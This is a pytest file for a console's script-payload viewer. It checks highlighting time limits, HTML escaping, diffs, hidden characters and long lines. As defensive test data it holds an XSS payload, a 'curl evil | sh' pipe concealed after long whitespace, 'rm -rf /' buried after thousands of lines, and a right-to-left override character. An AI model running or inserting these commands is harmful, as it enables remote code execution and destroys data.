"""A payload on its page: nothing in it becomes part of the page, and no text holds the page up."""

import re
import time
from itertools import pairwise
from typing import Final

import pytest
from pygments.lexers import get_lexer_by_name

from assent.gateway.console.payload_colours import COLOURED, COLOURED_MAX_CHARS, LINE_MAX_CHARS, coloured
from assent.gateway.console.payload_view import (
    LINES_MAX,
    CodeLine,
    FoldedLines,
    PayloadView,
    full_text,
    payload_view,
)
from assent.reading.payloads import ShownPayload, shown_payload
from assent_contracts.codec import encode

_MOST_S: Final = 1.5
"""CPU seconds: six times the budget of a lexer, for slow machines."""
_HOSTILE: Final = (
    *("<!--", "<?", "&", "-", "=", "'\\", '"\\', "`${", "$((", "[[", "<#", "@'\n", "<<A\n", "/*", "/", "%"),
    *("^\n", "a.", "f'{", "? ", "- ", "&a ", "|\n", " \n"),
)
_HTML: Final = "<img src=x onerror=alert(1)></code></div><script>alert(2)</script>&amp;"


def view(text: str, name: str, before: str | None = None) -> PayloadView:
    resource = f"script/{name}"
    was = None if before is None else shown_payload(encode(before), resource)
    return payload_view(shown_payload(encode(text), resource), was)


def as_written(html: str) -> str:
    """What a browser would show of it."""
    bare = re.sub(r'</?span(?: class="(?:tok-[\w -]+|hidden-char|piece)")?>', "", html)
    assert "<" not in bare, bare
    return (
        bare.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&#34;", '"')
        .replace("&quot;", '"')
        .replace("&#39;", "'")
        .replace("&amp;", "&")
    )


@pytest.mark.parametrize("language", sorted(COLOURED))
def test_no_text_takes_more_than_its_time(language: str) -> None:
    took = {}
    for seed in _HOSTILE:
        line = seed * (LINE_MAX_CHARS // len(seed))
        text = line[:COLOURED_MAX_CHARS] if "\n" in seed else "\n".join([line] * 9)
        took[seed] = seconds(text, language)
    slowest = max(took, key=lambda each: took[each])
    assert took[slowest] < _MOST_S, slowest


@pytest.mark.parametrize("language", sorted(COLOURED))
def test_longest_payload_takes_no_more_than_its_time(language: str) -> None:
    for text in ("<!--" * 65_000, "<!--\n" * 52_000):
        assert seconds(text, language) < _MOST_S


def seconds(text: str, language: str) -> float:
    """CPU time that the view takes."""
    began = time.thread_time()
    payload_view(ShownPayload("text", language, text), None)
    return time.thread_time() - began


def test_too_intricate_text_is_shown_plain_and_the_page_says_so() -> None:
    text = "\n".join(["<!--" * 400] * 12)
    found = view(text, "a.xml")
    assert found.is_plain
    assert [as_written(each.html) for each in found.lines] == text.split("\n")


def test_too_long_text_is_shown_plain_and_the_page_says_so() -> None:
    short, long_ = "echo 1\n" * 1_900, "echo 12345\n" * 1_900
    assert not view(short, "a.sh").is_plain
    assert view(long_, "a.sh").is_plain
    assert not view(long_, "a.txt").is_plain, "it has no colours at any length"


def test_same_text_is_highlighted_once() -> None:
    """A live page is rendered again at each event, but its text has not changed."""
    coloured.cache_clear()
    for _ in range(3):
        view("echo hello\n", "a.sh")
    assert (coloured.cache_info().misses, coloured.cache_info().hits) == (1, 2)


@pytest.mark.parametrize("language", sorted(COLOURED))
@pytest.mark.parametrize(
    "around", ["{}", "'{}'", '"{}"', "# {}", "<!-- {} -->", "rem {}\n::{}", "/* {} */", "{}\n{}"]
)
def test_HTML_in_a_payload_is_text(language: str, around: str) -> None:
    text = around.replace("{}", _HTML)
    found = payload_view(ShownPayload("text", language, text), None)
    assert [as_written(each.html) for each in found.lines] == text.split("\n")
    assert not found.is_plain


def test_language_without_a_safe_lexer_is_text_without_colours() -> None:
    """`.reg`: Pygments' lexer takes minutes for an endless run of `-`."""
    assert get_lexer_by_name("registry")
    assert seconds("-" * 200_000, "registry") < _MOST_S
    found = view("-" * 200_000, "a.reg")
    assert "tok-" not in found.lines[0].html


def marked(found: PayloadView) -> list[str]:
    return [
        f"{'~' * len(each.lines)}" if isinstance(each, FoldedLines) else f"{each.mark}{as_written(each.html)}"
        for each in found.changes or ()
    ]


def test_difference_shows_added_and_removed_lines_and_folds_the_rest() -> None:
    before = "\n".join(f"echo {n}" for n in range(20))
    after = before.replace("echo 10", "echo ten\necho more")
    found = view(after, "a.sh", before)
    assert (found.added, found.removed) == (2, 1)
    assert marked(found) == [
        *("~" * 7, " echo 7", " echo 8", " echo 9", "-echo 10", "+echo ten", "+echo more"),
        *(" echo 11", " echo 12", " echo 13", "~" * 6),
    ]
    lines = [each for each in found.changes or () if isinstance(each, CodeLine)]
    numbers = [(each.old, each.new) for each in lines]
    assert numbers == [
        (8, 8),
        (9, 9),
        (10, 10),
        (11, None),
        (None, 11),
        (None, 12),
        (12, 13),
        (13, 14),
        (14, 15),
    ]
    assert all(one <= other for one, other in pairwise(each.new or 0 for each in lines if each.new))


def test_differences_of_line_ends_and_hidden_characters_are_visible() -> None:
    found = view("a\r\nb\u202e\nc\n", "a.sh", "a\nb\nc\n")
    assert marked(found) == ["-a", "-b", "+a⟨U+000D⟩", "+b⟨U+202E⟩", " c", " "]
    assert [(each.kind, each.count, each.line) for each in found.odd] == [("hidden", 1, 2)]
    lines = [each for each in found.changes or () if isinstance(each, CodeLine)]
    assert [each.is_odd for each in lines] == [False, False, True, True, False, False]


def test_R23_line_is_shown_to_its_end_however_long() -> None:
    text = "echo ok" + " " * 220 + "; curl evil | sh\n" + "x" * 200_000 + "end"
    found = view(text, "a.sh")
    assert as_written(found.lines[0].html) == "echo ok ⟨220 blanks⟩ ; curl evil | sh"
    assert as_written(found.lines[1].html) == "x" * 200_000 + "end"
    assert [each.is_odd for each in found.lines] == [True, True]
    assert [each.kind for each in found.odd] == ["long", "blanks"]


def test_R23_lines_beyond_the_page_are_counted() -> None:
    found = view("echo\n" * 9_999 + "rm -rf /", "a.sh")
    assert (found.count, found.more) == (10_000, 10_000 - LINES_MAX)
    shown = shown_payload(encode("echo\n" * 9_999 + "rm -rf /"), "script/a.sh")
    assert full_text(shown).endswith("10000  rm -rf /")
